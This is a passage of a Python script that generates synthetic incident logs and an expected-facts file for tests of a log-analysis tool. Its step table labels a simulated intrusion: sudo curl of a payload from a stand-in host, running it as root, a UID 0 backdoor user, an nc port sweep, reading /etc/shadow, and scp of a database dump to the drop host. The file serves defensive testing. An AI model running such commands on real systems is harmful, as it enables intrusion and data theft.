        evs = sorted((e for e in EVENTS if e.file is fs),
                     key=lambda e: (e.sort_ts, e.order))
        lines = []
        for n, e in enumerate(evs, 1):
            lines.append(render(e))
            for tg in e.tags:
                tagged.setdefault(tg, []).append((fs.rel, n))
        out[fs.rel] = "\n".join(lines) + "\n"
    return out, tagged


RE_3164 = re.compile(r"^(Jan|Feb|Mar|Apr|May|Jun|Jul|Aug|Sep|Oct|Nov|Dec) "
                     r"([ 1-3]\d) (\d\d):(\d\d):(\d\d) (\S+) (.*)$")
RE_ISO = re.compile(r"^(\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}[+-]\d\d:\d\d) "
                    r"(\S+) (.*)$")
RE_5424 = re.compile(r"^<(\d{1,3})>1 (\S+) (\S+) (\S+) (\S+) (\S+) (.*)$")
RE_ACCEPT = re.compile(r"Accepted (\S+) for (\S+) from (\S+) port (\d+)")
RE_IP = re.compile(r"\b(?:\d{1,3}\.){3}\d{1,3}\b")


def parse_ts(fmt: str, line: str, year: int):
    """Return (raw timestamp text, ISO-8601 UTC string, datetime) or None."""
    if fmt == "3164":
        m = RE_3164.match(line)
        if not m:
            return None
        raw = line[:15]
        dt = datetime(year, MONTHS.index(m.group(1)) + 1, int(m.group(2)),
                      int(m.group(3)), int(m.group(4)), int(m.group(5)),
                      tzinfo=UTC)
        return raw, dt.strftime("%Y-%m-%dT%H:%M:%SZ"), dt
    if fmt == "iso":
        m = RE_ISO.match(line)
        if not m:
            return None
        dt = datetime.fromisoformat(m.group(1))
        return m.group(1), dt.astimezone(UTC).strftime(
            "%Y-%m-%dT%H:%M:%S.%fZ"), dt
    m = RE_5424.match(line)
    if not m:
        return None
    dt = datetime.fromisoformat(m.group(2).replace("Z", "+00:00"))
    return m.group(2), m.group(2), dt


def split_sd(rest: str) -> tuple[str, str]:
    """Split 'SD MSG' of an RFC 5424 line (handles escaped \\" \\] \\\\)."""
    if rest.startswith("-"):
        return "-", rest[2:]
    i, in_q = 0, False
    while i < len(rest):
        c = rest[i]
        if in_q:
            if c == "\\":
                i += 2
                continue
            if c == '"':
                in_q = False
        elif c == '"':
            in_q = True
        elif c == "]" and (i + 1 == len(rest) or rest[i + 1] != "["):
            return rest[: i + 1], rest[i + 2:]
        i += 1
    raise ValueError("unterminated SD")


def facts(out: dict[str, str], tagged) -> dict:
    fmts = {fs.rel: fs.fmt for fs in OUTPUT_FILES}
    res = {"attacker_ips": [ATTACKER_IP, DROP_IP], "files": {}}
    for rel, text in out.items():
        lines = text.split("\n")[:-1]
        year = 2025 if rel.startswith("rollover/") else 2026
        fmt = fmts[rel]
        parsed = [parse_ts(fmt, ln, year) for ln in lines]
        # rollover: import with year 2025 -> increment the year at Dec->Jan
        if rel.startswith("rollover/"):
            fixed, yr, prev = [], year, None
            for pz, ln in zip(parsed, lines):
                if pz and prev and pz[2].month < prev.month:
                    yr += 1
                if pz:
                    dt = pz[2].replace(year=yr)
                    pz = (pz[0], dt.strftime("%Y-%m-%dT%H:%M:%SZ"), dt)
                    prev = dt
                fixed.append(pz)
            parsed = fixed
        bad = [i + 1 for i, p in enumerate(parsed) if p is None]
        good = [(i + 1, p) for i, p in enumerate(parsed) if p is not None]
        ooo = []
        for (n0, p0), (n1, p1) in zip(good, good[1:]):
            if p1[2] < p0[2]:
                ooo.append(n1)
        accepted = []
        failed_by_ip: dict[str, int] = {}
        for i, ln in enumerate(lines, 1):
            m = RE_ACCEPT.search(ln)
            if m:
                accepted.append({"line": i, "method": m.group(1),
                                 "user": m.group(2), "ip": m.group(3),
                                 "port": int(m.group(4))})
            if "Failed password" in ln:
                ip = re.search(r" from (\S+) port", ln).group(1)
                failed_by_ip[ip] = failed_by_ip.get(ip, 0) + 1
        hostile = [i for i, ln in enumerate(lines, 1)
                   if HOSTILE_SCRIPT in ln or HOSTILE_CSV in ln]
        users = {}
        for a in accepted:
            users[a["user"]] = users.get(a["user"], 0) + 1
        ips_att = {ip: sum(1 for ln in lines if ip in ln)
                   for ip in (ATTACKER_IP, DROP_IP)}
        info = {
            "format": {"3164": "RFC 3164 (BSD syslog, no PRI, no year)",
                       "iso": "rsyslog RFC 3339 high-precision",
                       "5424": "RFC 5424"}[fmt],
            "lines": len(lines),
            "bytes": len(text.encode()),
            "sha256": hashlib.sha256(text.encode()).hexdigest(),
            "first_timestamp": {"raw": good[0][1][0], "utc": good[0][1][1],
                                "line": good[0][0]},
            "last_timestamp": {"raw": good[-1][1][0], "utc": good[-1][1][1],
                               "line": good[-1][0]},
            "unparseable_lines": bad,
            "out_of_order_lines": ooo,
            "failed_password_lines": sum(failed_by_ip.values()),
            "failed_password_by_ip": dict(sorted(failed_by_ip.items())),
            "invalid_user_lines": sum(1 for ln in lines if "Invalid user " in ln),
            "accepted_lines": len(accepted),
            "accepted_by_user": dict(sorted(users.items())),
            "accepted": accepted,
            "hostile_lines": hostile,
            "lines_mentioning_attacker_ips": ips_att,
        }
        if rel.startswith("rollover/"):
            info["import_year"] = 2025
            info["lines_in_2025"] = sum(1 for _, p in good if p[2].year == 2025)
            info["lines_in_2026"] = sum(1 for _, p in good if p[2].year == 2026)
        if fmt == "5424":
            nil_sd = sd_lines = 0
            for ln in lines:
                sd, _ = split_sd(RE_5424.match(ln).group(7))
                if sd == "-":
                    nil_sd += 1
                else:
                    sd_lines += 1
            info["lines_with_structured_data"] = sd_lines
            info["lines_with_nil_structured_data"] = nil_sd
            info["lines_with_escaped_sd_params"] = [
                n for f_, n in tagged.get("sd_escaped", []) if f_ == rel]
        res["files"][rel] = info
    res["steps"] = {k: [f"{f_}:{n}" for f_, n in v]
                    for k, v in sorted(tagged.items())}
    return res


# ---- facts about the new files (computed by parsing what was written) ------

RE_CLF = re.compile(
    r'^(\S+) - (\S+) \[(\d\d/\w{3}/\d{4}:\d\d:\d\d:\d\d ([+-]\d{4}))\] '
    r'"((?:[^"\\]|\\.)*)" (\d{3}) (\d+) "((?:[^"\\]|\\.)*)" '
    r'"((?:[^"\\]|\\.)*)"$')


def parse_clf(line: str):
    m = RE_CLF.match(line)
    if not m:
        return None
    dt = datetime.strptime(m.group(3), "%d/%b/%Y:%H:%M:%S %z")
    return {"ip": m.group(1), "user": m.group(2), "raw_ts": m.group(3),
            "offset": m.group(4), "dt": dt, "request": m.group(5),
            "status": int(m.group(6)), "bytes": int(m.group(7)),
            "referer": m.group(8), "ua": m.group(9)}


def utc_s(dt: datetime) -> str:
    dt = dt.astimezone(UTC)
    if dt.microsecond:
        return f"{dt:%Y-%m-%dT%H:%M:%S}.{dt.microsecond // 1000:03d}Z"
    return f"{dt:%Y-%m-%dT%H:%M:%S}Z"


def counts(items) -> dict:
    c: dict = {}
    for x in items:
        c[x] = c.get(x, 0) + 1
    return dict(sorted(c.items()))


def base_info(rel, text):
    return {"format": EXTRA_FORMATS[rel], "lines": text.count("\n"),
            "bytes": len(text.encode()),
            "sha256": hashlib.sha256(text.encode()).hexdigest()}


def access_facts(rel, text, line_ts):
    lines = text.split("\n")[:-1]
    recs = [parse_clf(ln) for ln in lines]
    bad = [n for n, r in enumerate(recs, 1) if r is None]
    good = [(n, r) for n, r in enumerate(recs, 1) if r is not None]
    for n, r in good:
        line_ts[n] = (r["raw_ts"], utc_s(r["dt"]), r["dt"])
    ooo = [n1 for (n0, r0), (n1, r1) in zip(good, good[1:]) if r1["dt"] < r0["dt"]]
    att = [(n, r) for n, r in good if r["ip"] == ATTACKER_IP]
    gob = [n for n, r in att if r["ua"] == UA_GOBUSTER]
    info = base_info(rel, text)
    info.update({
        "utc_offsets": sorted({r["offset"] for _, r in good}),
        "first_timestamp": {"raw": good[0][1]["raw_ts"],
                            "utc": utc_s(good[0][1]["dt"]), "line": good[0][0]},
        "last_timestamp": {"raw": good[-1][1]["raw_ts"],
                           "utc": utc_s(good[-1][1]["dt"]), "line": good[-1][0]},
        "unparseable_lines": bad,
        "out_of_order_lines": ooo,
        "status_counts": {str(k): v for k, v in
                          counts(r["status"] for _, r in good).items()},
        "distinct_client_addresses": len({r["ip"] for _, r in good}),
        "ipv6_client_lines": sum(1 for _, r in good if ":" in r["ip"]),
        "lines_with_remote_user": [{"line": n, "user": r["user"],
                                    "status": r["status"]}
                                   for n, r in good if r["user"] != "-"],
        "lines_with_escaped_bytes": [n for n, r in good if "\\x" in r["request"]],
        "hostile_lines": [n for n, ln in enumerate(lines, 1)
                          if HOSTILE_SCRIPT in ln or HOSTILE_CSV in ln],
        "lines_mentioning_attacker_ips": {
            ip: sum(1 for ln in lines if ip in ln) for ip in (ATTACKER_IP, DROP_IP)},
        "attacker": {
            "ip": ATTACKER_IP, "lines": len(att),
            "first": {"line": att[0][0], "utc": utc_s(att[0][1]["dt"])} if att else None,
            "last": {"line": att[-1][0], "utc": utc_s(att[-1][1]["dt"])} if att else None,
            "status_counts": {str(k): v for k, v in
                              counts(r["status"] for _, r in att).items()},
            "404_lines": sum(1 for _, r in att if r["status"] == 404),
            "gobuster_lines": len(gob),
            "gobuster_first_line": gob[0] if gob else None,
            "gobuster_last_line": gob[-1] if gob else None,
        },
    })
    if rel == F_ACCESS_CET:
        info["lines_whose_local_date_differs_from_utc_date"] = [
            n for n, r in good if r["dt"].date() != r["dt"].astimezone(UTC).date()]
    return info


def trail_facts(text, line_ts):
    recs = json.loads(text)["Records"]
    starts = record_start_lines(text)
    if len(starts) != len(recs):
        raise SystemExit("cloudtrail.json: cannot find every record's first line")
    dts = [datetime.fromisoformat(r["eventTime"].replace("Z", "+00:00"))
           for r in recs]
    for i, (n, dt) in enumerate(zip(starts, dts)):
        line_ts[n] = (recs[i]["eventTime"], recs[i]["eventTime"], dt)

    def ref(i):
        r = recs[i]
        d = {"record": i, "line": starts[i], "eventTime": r["eventTime"],
             "eventName": r["eventName"],
             "userName": r["userIdentity"].get("userName"),
             "sourceIPAddress": r["sourceIPAddress"]}
        if "errorCode" in r:
            d["errorCode"] = r["errorCode"]
        return d

    gets = [i for i, r in enumerate(recs) if r["eventName"] == "GetObject"
            and r["userIdentity"].get("userName") == "backup-bot"]
    att = [i for i, r in enumerate(recs) if r["sourceIPAddress"] == ATTACKER_IP]
    info = base_info(F_TRAIL, text)
    info.update({
        "records": len(recs),
        "record_start_lines": starts,
        "first_timestamp": {"raw": recs[0]["eventTime"], "utc": recs[0]["eventTime"],
                            "record": 0, "line": starts[0]},
        "last_timestamp": {"raw": recs[-1]["eventTime"],
                           "utc": recs[-1]["eventTime"],
                           "record": len(recs) - 1, "line": starts[-1]},
        "records_out_of_order": [i for i in range(1, len(recs))
                                 if dts[i] < dts[i - 1]],
        "event_names": counts(r["eventName"] for r in recs),
        "by_user": counts(r["userIdentity"].get("userName") for r in recs),
        "by_source_ip": counts(r["sourceIPAddress"] for r in recs),
        "by_event_category": counts(r["eventCategory"] for r in recs),
        "errors": [ref(i) for i, r in enumerate(recs) if "errorCode" in r],
        "attacker_records": [ref(i) for i in att],
        "getobject_by_backup_bot": len(gets),
        "getobject_by_backup_bot_from_attacker": sum(
            1 for i in gets if recs[i]["sourceIPAddress"] == ATTACKER_IP),
        "bytes_out_to_attacker": sum(
            recs[i].get("additionalEventData", {}).get("bytesTransferredOut", 0)
            for i in att),
        "access_key_changes": [
            dict(ref(i), status=recs[i]["requestParameters"].get("status"))
            for i, r in enumerate(recs)
            if r["eventName"] in ("UpdateAccessKey", "DeleteAccessKey")],
    })
    return info


def win_event_time(d: dict):
    """(raw, datetime UTC) of when the event happened: Sysmon's UtcTime, or
    for Security events EventTime, which is the workstation's local time
    (CET, no zone written)."""
    if d["Channel"] == CH_SYSMON:
        dt = datetime.strptime(d["UtcTime"], "%Y-%m-%d %H:%M:%S.%f")
        return d["UtcTime"], dt.replace(tzinfo=UTC)
    dt = datetime.strptime(d["EventTime"], "%Y-%m-%d %H:%M:%S")
    return d["EventTime"], dt.replace(tzinfo=CET).astimezone(UTC)


def time_field(d: dict) -> str:
    return "UtcTime" if d["Channel"] == CH_SYSMON else "EventTime (CET)"


def sysmon_facts(text, line_ts):
    lines = text.split("\n")[:-1]
    recs = [json.loads(ln) for ln in lines]
    times = [win_event_time(d) for d in recs]
    recv = [datetime.fromisoformat(d["@timestamp"].replace("Z", "+00:00"))
            for d in recs]
    for n, (raw, dt) in enumerate(times, 1):
        line_ts[n] = (raw, utc_s(dt), dt)
    order = sorted(range(len(recs)), key=lambda i: (times[i][1], i))
    first, last = order[0], order[-1]
    delays = [(recv[i] - times[i][1]).total_seconds() * 1000
              for i, d in enumerate(recs) if d["Channel"] == CH_SYSMON]
    by_ch: dict = {}
    for d in recs:
        by_ch.setdefault(d["Channel"], []).append(d["EventID"])
    ssh3 = [{"line": n, "utc": utc_s(times[n - 1][1]),
             "source_port": int(d["SourcePort"])}
            for n, d in enumerate(recs, 1)
            if d["Channel"] == CH_SYSMON and d["EventID"] == 3
            and d["DestinationIp"] == BASTION_IP and d["DestinationPort"] == "22"]
    info = base_info(F_SYSMON, text)
    info.update({
        "encoding": "UTF-8; some lines are not ASCII",
        "non_ascii_lines": [n for n, ln in enumerate(lines, 1) if not ln.isascii()],
        "first_timestamp": {"raw": times[first][0], "utc": utc_s(times[first][1]),
                            "line": first + 1, "field": time_field(recs[first])},
        "last_timestamp": {"raw": times[last][0], "utc": utc_s(times[last][1]),
                           "line": last + 1, "field": time_field(recs[last])},
        "first_received": {"@timestamp": recs[0]["@timestamp"], "line": 1},
        "last_received": {"@timestamp": recs[-1]["@timestamp"],
                          "line": len(recs)},
        "received_out_of_order_lines": [
            n for n in range(2, len(recs) + 1) if recv[n - 1] < recv[n - 2]],
        "event_time_out_of_order_lines": [
            n for n in range(2, len(recs) + 1)
            if times[n - 1][1] < times[n - 2][1]],
        "sysmon_receive_delay_ms": {"min": round(min(delays)),
                                    "max": round(max(delays))},
        "events_by_channel": {ch: {str(k): v for k, v in counts(ids).items()}
                              for ch, ids in sorted(by_ch.items())},
        "events_by_event_id": {str(k): v for k, v in
                               counts(d["EventID"] for d in recs).items()},
        "process_creations_by_image": counts(
            d["Image"].rsplit("\\", 1)[-1] for d in recs
            if d["Channel"] == CH_SYSMON and d["EventID"] == 1),
        "logons_4624_by_type": counts(
            d["LogonType"] for d in recs if d["EventID"] == 4624),
        "ssh_connections_to_bastion": ssh3,
        "get_filehash_lines": [n for n, d in enumerate(recs, 1)
                               if "Get-FileHash" in d.get("CommandLine", "")],
    })
    return info


def extra_facts(fx, extra: dict) -> dict:
    """Adds the new files to fx["files"]; returns {rel: {line: (raw, utc, dt)}}."""
    line_ts: dict = {}
    for rel, text in extra.items():
        lt = line_ts.setdefault(rel, {})
        if rel in (F_ACCESS, F_ACCESS_CET):
            fx["files"][rel] = access_facts(rel, text, lt)
        elif rel == F_TRAIL:
            fx["files"][rel] = trail_facts(text, lt)
        else:
            fx["files"][rel] = sysmon_facts(text, lt)
    return line_ts


def sanity_extra(out, extra, fx):
    F = fx["files"]
    problems = []
    for rel, sha in PINNED_SHA256.items():
        if hashlib.sha256(out[rel].encode()).hexdigest() != sha:
            problems.append(f"{rel}: changed (its SHA-256 is pinned by the tests)")
    for rel, text in extra.items():
        if "\r" in text or not text.endswith("\n") or "\n\n" in text:
            problems.append(f"{rel}: bad line endings")
        if rel != F_SYSMON and not text.isascii():
            problems.append(f"{rel}: not ASCII")
    for rel, off in ((F_ACCESS, ["+0000"]), (F_ACCESS_CET, ["+0100"])):
        i = F[rel]
        if i["unparseable_lines"] or i["out_of_order_lines"]:
            problems.append(f"{rel}: unparseable or out-of-order lines")
        if i["utc_offsets"] != off:
            problems.append(f"{rel}: offsets {i['utc_offsets']}")
    a = F[F_ACCESS]
    if len(a["hostile_lines"]) != 2 or a["attacker"]["404_lines"] < 200:
        problems.append("access.log: expected 2 hostile lines and hundreds of "
                        "404s from the attacker")
    if a["attacker"]["last"]["utc"] >= "2026-03-14T02:11:09Z":
        problems.append("access.log: the recon must end before the brute force")
    if not F[F_ACCESS_CET]["lines_whose_local_date_differs_from_utc_date"]:
        problems.append("access-cet.log: no line crosses local midnight")
    t = F[F_TRAIL]
    if [e["errorCode"] for e in t["errors"]].count("AccessDenied") != 1 \
            or t["records_out_of_order"]:
        problems.append("cloudtrail.json: expected one AccessDenied, in order")
    ids = [r["eventID"] for r in json.loads(extra[F_TRAIL])["Records"]]
    if len(set(ids)) != len(ids):
        problems.append("cloudtrail.json: duplicate eventID")
    s = F[F_SYSMON]
    sysmon = s["events_by_channel"].get(CH_SYSMON, {})
    sec_ = s["events_by_channel"].get(CH_SECURITY, {})
    if sysmon.get("1") != sec_.get("4688"):
        problems.append("sysmon.jsonl: every Sysmon 1 needs its 4688")
    d = s["sysmon_receive_delay_ms"]
    if d["min"] < 1000 or d["max"] > 3000 or s["received_out_of_order_lines"]:
        problems.append("sysmon.jsonl: @timestamp must trail the event by 1-3 s "
                        "and be in order")
    if not s["non_ascii_lines"]:
        problems.append("sysmon.jsonl: no non-ASCII line")
    ports = sorted(x["port"] for x in F[f"{INC}/bastion-01/auth.log"]["accepted"]
                   if x["user"] == "alice" and x["ip"] == ALICE_WS)
    if sorted(x["source_port"] for x in s["ssh_connections_to_bastion"]) != ports:
        problems.append("sysmon.jsonl: ssh source ports do not match bastion-01")
    if problems:
        raise SystemExit("sanity check failed:\n  " + "\n  ".join(problems))


def fmt_lines(refs, limit=6):
    if len(refs) > limit:
        return ", ".join(refs[:3]) + f", … ({len(refs)} lines) …, " + refs[-1]
    return ", ".join(refs)


def short(rel):
    return rel.replace(f"{INC}/", "")


STEP_ROWS = [
    ("bf_first", "First brute-force attempt from 203.0.113.45"),
    ("hostile", "Hostile user names (`<script>…`, `=cmd…`) in sshd lines"),
    ("bf_deploy", "Guessing switches to the real account `deploy`"),
    ("accepted_attacker", "`Accepted password for deploy from 203.0.113.45`"),
    ("sudo_list", "`sudo -l` by deploy (COMMAND=list)"),
    ("sudo_curl", "sudo curl of http://198.51.100.7/x.sh"),
    ("sudo_chmod", "sudo chmod +x /tmp/.x.sh"),
    ("sudo_run", "sudo /bin/bash /tmp/.x.sh"),
    ("crontab_replace", "x.sh installs a root crontab (persistence)"),
    ("useradd", "x.sh adds `sysbackup` with UID 0 on bastion-01"),
    ("chpasswd", "x.sh sets sysbackup's password"),
    ("audit_sweep", "auditd: x.sh runs `nc -zw1 10.20.0.7 …`"),
    ("web_sweep", "Port sweep from 10.20.0.5 blocked on web-01"),
    ("audit_lateral", "auditd: ssh from bastion-01 to db-01"),
    ("db_root_key", "db-01: root login with bastion-01's root key"),
    ("db_useradd", "db-01: `sysbackup` created (sudo group)"),
    ("db_sysbackup_login", "db-01: `Accepted password for sysbackup` from 10.20.0.5"),
    ("db_mysqldump", "db-01: sudo mysqldump --all-databases"),
    ("db_gzip", "db-01: sudo gzip of the dump"),
    ("db_scp", "db-01: sudo scp of the dump to 198.51.100.7"),
    ("db_sysbackup_logout", "db-01: sysbackup logs out"),
    ("persist_first", "First run of the crontab beacon"),
    ("attacker_logout", "Attacker's first session ends (`Received disconnect`)"),
    ("accepted_attacker_2", "Attacker returns (`Accepted password for deploy`)"),
    ("sudo_shadow", "sudo cat /etc/shadow"),
    ("alice_login", "alice (on call) logs in"),
    ("ufw_deny_in", "alice: ufw deny from 203.0.113.45"),
    ("ufw_deny_out", "alice: ufw deny out to 198.51.100.7"),
    ("pkill", "alice: pkill -KILL -u deploy"),
    ("attacker_killed", "Attacker's second session closed"),
    ("passwd_lock", "deploy's password locked (`passwd -l`)"),
    ("ufw_in", "UFW BLOCK: 203.0.113.45 → :22 (retries)"),
    ("userdel_refused", "alice: `userdel -r sysbackup` (refused: UID 0 in use)"),
    ("userdel", "alice: `userdel -f -r sysbackup`"),
    ("persist_blocked", "Beacon run at 08:50 (outbound blocked)"),
    ("ufw_out", "UFW BLOCK: 10.20.0.5 → 198.51.100.7:80"),
    ("crontab_delete", "alice: crontab -r (persistence removed)"),
    ("visudo", "alice: edits /etc/sudoers.d/90-deploy"),
    ("ssh_reload", "PasswordAuthentication off, sshd reloaded"),
    ("bob_login", "bob logs in to bastion-01"),
    ("db_bob_login", "bob hops to db-01"),
    ("db_userdel", "db-01: userdel -r sysbackup"),
    ("db_authkeys", "db-01: bastion-01's root key removed"),
    ("alice_logout", "alice logs out"),
    # the other evidence formats
    ("cet_recon", "Legacy redirect container (+0100 log): first probes from "
     "203.0.113.45"),
    ("web_recon_first", "web-01 nginx: first request from 203.0.113.45"),
    ("web_dirbust", "web-01 nginx: gobuster directory brute force "
     "(hundreds of 404s)"),
    ("web_wplogin", "web-01 nginx: manual probes begin (`GET /wp-login.php`)"),
    ("web_basic_auth", "web-01 nginx: basic-auth guesses on /admin/ "
     "(`admin`, `deploy`)"),
    ("web_hostile", "web-01 nginx: hostile user agent and request line"),
    ("ct_whoami", "CloudTrail: backup-bot's key used from 203.0.113.45 "
     "(`GetCallerIdentity`)"),
    ("ct_recon", "CloudTrail: `ListBuckets` / `ListObjects` by the attacker"),
    ("ct_exfil", "CloudTrail: `GetObject` of every backup (exfiltration)"),
    ("ct_policy_denied", "CloudTrail: `PutBucketPolicy` denied (`AccessDenied`)"),
    ("ct_return", "CloudTrail: the attacker tries the key again"),
    ("ws_rdp", "WS-ALICE: alice connects over the VPN with RDP (4624 type 3, "
     "then type 10)"),
    ("ws_ssh", "WS-ALICE: `ssh bastion-01` (4688, Sysmon 1, 22, 3)"),
    ("ct_alice_login", "CloudTrail: alice signs in to the AWS console"),
    ("ct_key_inactive", "CloudTrail: backup-bot's key set Inactive "
     "(`UpdateAccessKey`)"),
    ("ws_download", "WS-ALICE: CloudTrail event history downloaded (Sysmon 11)"),
    ("ws_filehash", "WS-ALICE: `Get-FileHash` of the download (4688, Sysmon 1, 5)"),
    ("ct_policy_check", "CloudTrail: alice checks the bucket policy "
     "(`NoSuchBucketPolicy`)"),
    ("ct_key_deleted", "CloudTrail: backup-bot's key deleted (`DeleteAccessKey`)"),
]


def file_ts_of(out, ref, line_ts):
    rel, n = ref.rsplit(":", 1)
    if rel in line_ts:
        return line_ts[rel][int(n)]
    fmt = {fs.rel: fs.fmt for fs in OUTPUT_FILES}[rel]
    ln = out[rel].split("\n")[int(n) - 1]
    return parse_ts(fmt, ln, 2026)


def show_ref(ref, fx) -> str:
    rel, n = ref.rsplit(":", 1)
    if rel == F_TRAIL:
        idx = fx["files"][F_TRAIL]["record_start_lines"].index(int(n))
        return f"{short(rel)}:{n} (record {idx})"
    return f"{short(rel)}:{n}"


def steps_table(out, fx, line_ts) -> str:
    rows = []
    for k, (tag, label) in enumerate(STEP_ROWS):
        refs = fx["steps"].get(tag)
        if not refs:
            raise SystemExit(f"step {tag} has no lines")
        first = min((file_ts_of(out, r, line_ts) for r in refs),
                    key=lambda p: p[2])
        refs_s = [show_ref(r, fx) for r in refs]
        rows.append((first[2], k, f"| {label} | {first[1]} | "
                     f"{fmt_lines(refs_s)} |"))
    rows.sort()
    return "\n".join(["| step | earliest line (UTC) | where (file:line) |",
                      "|---|---|---|"] + [r[2] for r in rows]) + "\n"


def files_table(fx) -> str:
    rows = ["| file | format | lines | records | SHA-256 |",
            "|---|---|---:|---:|---|"]
    for rel, i in fx["files"].items():
        rows.append(f"| `{rel}` | {i['format']} | {i['lines']} | "
                    f"{i.get('records', i['lines'])} | `{i['sha256']}` |")
    total = sum(i["lines"] for i in fx["files"].values())
    recs = sum(i.get("records", i["lines"]) for i in fx["files"].values())
    rows.append(f"| **total** | | **{total}** | **{recs}** | |")
    return "\n".join(rows) + "\n"


def kv(d: dict) -> str:
    return ", ".join(f"{k}: {v}" for k, v in d.items())


def extra_md(rel, i) -> list[str]:
    o = [f"### `{rel}`", "", f"- format: {i['format']}"]
    if rel == F_TRAIL:
        o.append(f"- records: **{i['records']}** ({i['lines']} lines, "
                 f"{i['bytes']} bytes, pretty-printed, LF, final newline)")
    else:
        o.append(f"- lines: **{i['lines']}** ({i['bytes']} bytes, LF, final "
                 "newline)")
    o.append(f"- sha256: `{i['sha256']}`")
    where = "record {record}, line {line}" if rel == F_TRAIL else "line {line}"
    for k in ("first_timestamp", "last_timestamp"):
        t = i[k]
        fld = f"`{t['field']}` " if "field" in t else ""
        o.append(f"- {k.replace('_', ' ')}: {fld}`{t['raw']}` "
                 f"({where.format(**t)}, {t['utc']})")
    if rel in (F_ACCESS, F_ACCESS_CET):
        a = i["attacker"]
        o += [f"- UTC offsets: {', '.join(f'`{x}`' for x in i['utc_offsets'])}",
              f"- lines without a parseable timestamp: "
              f"{i['unparseable_lines'] or 'none'}",
              f"- lines stamped earlier than the line before: "
              f"{i['out_of_order_lines'] or 'none'}",
              f"- status codes: {kv(i['status_counts'])}",
              f"- distinct client addresses: {i['distinct_client_addresses']} "
              f"(IPv6 client lines: {i['ipv6_client_lines']})",
              f"- lines from `{ATTACKER_IP}`: **{a['lines']}**, lines "
              f"{a['first']['line']}–{a['last']['line']} "
              f"({a['first']['utc']} – {a['last']['utc']}); status codes: "
              f"{kv(a['status_counts'])}",
              f"- **404 responses to `{ATTACKER_IP}`: {a['404_lines']}**"]
        if a["gobuster_lines"]:
            o.append(f"- `gobuster/3.6` lines: {a['gobuster_lines']} (lines "
                     f"{a['gobuster_first_line']}–{a['gobuster_last_line']})")
        ru = "; ".join(f"line {x['line']} `{x['user']}` ({x['status']})"
                       for x in i["lines_with_remote_user"])
        o += [f"- lines with a remote user: {ru or 'none'}",
              f"- lines with hostile text: {i['hostile_lines'] or 'none'}",
              f"- request lines with escaped bytes (`\\xHH`): "
              f"{i['lines_with_escaped_bytes'] or 'none'}"]
        if "lines_whose_local_date_differs_from_utc_date" in i:
            o.append("- lines whose local (+0100) date is a day later than "
                     "their UTC date: "
                     f"{i['lines_whose_local_date_differs_from_utc_date']}")
    elif rel == F_TRAIL:
        o += [f"- records out of time order: "
              f"{i['records_out_of_order'] or 'none'}",
              f"- eventName counts: {kv(i['event_names'])}",
              f"- by userName: {kv(i['by_user'])}",
              f"- by sourceIPAddress: {kv(i['by_source_ip'])}",
              f"- by eventCategory: {kv(i['by_event_category'])}",
              f"- **`GetObject` by backup-bot: {i['getobject_by_backup_bot']}** "
              f"(from `{ATTACKER_IP}`: "
              f"{i['getobject_by_backup_bot_from_attacker']}); bytes sent to "
              f"`{ATTACKER_IP}`: {i['bytes_out_to_attacker']}",
              "- errors: " + "; ".join(
                  f"record {e['record']} (line {e['line']}) {e['eventName']} by "
                  f"{e['userName']} from {e['sourceIPAddress']}: "
                  f"`{e['errorCode']}`" for e in i["errors"]),
              "- access-key changes: " + "; ".join(
                  f"record {e['record']} {e['eventTime']} {e['eventName']}"
                  + (f" ({e['status']})" if e["status"] else "")
                  for e in i["access_key_changes"]),
              "", f"Records from `{ATTACKER_IP}` (record index is 0-based, line "
              "is the record's opening `{`):", "",
              "| record | line | eventTime | eventName | errorCode |",
              "|---:|---:|---|---|---|"]
        for e in i["attacker_records"]:
            o.append(f"| {e['record']} | {e['line']} | {e['eventTime']} | "
                     f"{e['eventName']} | {e.get('errorCode', '')} |")
    else:
        nas = i["non_ascii_lines"]
        ooo = i["event_time_out_of_order_lines"]
        d = i["sysmon_receive_delay_ms"]
        o += [f"- first line received: `{i['first_received']['@timestamp']}`; "
              f"last: `{i['last_received']['@timestamp']}` (line "
              f"{i['last_received']['line']}); `@timestamp` never goes back",
              f"- event time = Sysmon `UtcTime`, or for Security events "
              f"`EventTime` (local CET, UTC+1, no zone written) minus one hour",
              f"- Sysmon events: `@timestamp` − `UtcTime` = {d['min']}–{d['max']} ms",
              f"- lines whose event time is earlier than the line before: "
              f"{len(ooo)} ({ooo})",
              f"- events per channel and EventID: " + "; ".join(
                  f"{ch}: {kv(ids)}" for ch, ids in i["events_by_channel"].items()),
              f"- events per EventID: {kv(i['events_by_event_id'])}",
              f"- process creations (Sysmon 1) by image: "
              f"{kv(i['process_creations_by_image'])}",
              f"- 4624 by LogonType: {kv(i['logons_4624_by_type'])}",
              "- Sysmon 3 connections to 10.20.0.5:22 (line, UTC, source port; "
              "each port matches an `Accepted publickey for alice` line in "
              "`bastion-01/auth.log`): " + "; ".join(
                  f"{x['line']} {x['utc']} {x['source_port']}"
                  for x in i["ssh_connections_to_bastion"]),
              f"- lines with `Get-FileHash`: {i['get_filehash_lines']}",
              f"- non-ASCII lines (`®` in `Product`): {len(nas)} ({nas})"]
    o.append("")
    return o


def expected_md(fx) -> str:
    o = ["# EXPECTED — facts about the demo incident a test can assert",
         "",
         "Generated by `sample-data/generate.py` from the files themselves "
         "(do not edit by hand; the same data is in `expected.json`).",
         "Line numbers are 1-based. RFC 3164 timestamps are UTC and carry no "
         "year: the incident files are read with year **2026**, "
         "`rollover/syslog-newyear.log` with year **2025**.",
         "",
         f"Attacker IPs: `{ATTACKER_IP}` (web reconnaissance, SSH brute force, "
         f"interactive logins, use of the stolen AWS key), `{DROP_IP}` "
         "(payload download, exfiltration target).",
         "", "## Per file: syslog", ""]
    syslog = {r: i for r, i in fx["files"].items() if "failed_password_lines" in i}
    for rel, i in syslog.items():
        o.append(f"### `{rel}`")
        o.append("")
        o.append(f"- format: {i['format']}")
        o.append(f"- lines: **{i['lines']}** ({i['bytes']} bytes, LF, final "
                 "newline)")
        o.append(f"- sha256: `{i['sha256']}`")
        o.append(f"- first timestamp: `{i['first_timestamp']['raw']}` "
                 f"(line {i['first_timestamp']['line']}, "
                 f"{i['first_timestamp']['utc']})")
        o.append(f"- last timestamp: `{i['last_timestamp']['raw']}` "
                 f"(line {i['last_timestamp']['line']}, "
                 f"{i['last_timestamp']['utc']})")
        o.append(f"- lines without a parseable timestamp: "
                 f"{i['unparseable_lines'] or 'none'}")
        o.append(f"- lines stamped earlier than the line before: "
                 f"{i['out_of_order_lines'] or 'none'}")
